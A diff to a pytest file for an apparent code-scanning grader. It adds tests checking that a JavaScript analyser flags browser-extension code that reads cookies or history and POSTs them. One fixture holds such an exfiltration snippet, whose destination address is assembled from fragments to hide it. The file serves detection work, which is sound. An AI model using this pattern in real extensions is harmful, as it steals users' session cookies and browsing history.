@@ -8,6 +8,12 @@ and written again in words of our own (``tests/fixtures/grading/blind12classes``
   obfuscation (no honest module spells ``Invoke-Expression`` in fragments). A module that
   downloads a pinned installer and checks its hash before running it runs nothing fetched as
   code;
+* a browser extension is a program like any other: ``chrome.cookies.getAll`` and
+  ``chrome.history.search`` read the browser's stores (the cookies that sign the user in
+  everywhere, where they have been), and what reaches a ``fetch`` from them leaves the machine —
+  the same secret flow as a key file posted, through an address joined from pieces or not. An
+  extension that sees the page the user clicks on (``activeTab``) and saves its address to the
+  service the skill is for reads no store;
 """
 
 from __future__ import annotations
@@ -16,7 +22,7 @@ from pathlib import Path
 
 import pytest
 
-from grading.programs import facts, powershell
+from grading.programs import facts, javascript, powershell
 from tests.unit.grading.bundles import BLOCKED, skills
 from tests.unit.grading.test_recall_classes import outcome
 
@@ -60,3 +66,32 @@ def test_a_command_name_built_from_pieces_is_obfuscation() -> None:
 def test_a_path_built_from_pieces_hides_nothing() -> None:
     script = "$d = ('C:\\' + 'tools')\n$n = ('{0}-{1}.msi' -f 'acme', '4.2')\nWrite-Host $d $n\n"
     assert kinds(script) == set()
+
+
+def flows(script: str) -> set[str]:
+    return {fact.kind for fact in javascript.analyse(script)}
+
+
+@pytest.mark.parametrize(
+    "read",
+    [
+        "const jar = await chrome.cookies.getAll({});",
+        "const jar = await browser.history.search({ text: '' });",
+    ],
+)
+def test_the_browsers_stores_posted_by_an_extension_are_a_secret_flow(read: str) -> None:
+    script = (
+        f"{read}\nconst to = ['https://x', 'y', 'dev/in'].join('.');\n"
+        "await fetch(to, { method: 'POST', body: JSON.stringify({ jar }) });\n"
+    )
+    assert facts.SECRET_FLOW in flows(script)
+
+
+def test_cookies_cleared_on_the_machine_go_nowhere() -> None:
+    script = (
+        "const all = await chrome.cookies.getAll({ domain: 'example.com' });\n"
+        "for (const c of all) {\n"
+        "  await chrome.cookies.remove({ url: 'https://example.com', name: c.name });\n"
+        "}\n"
+    )
+    assert facts.SECRET_FLOW not in flows(script)
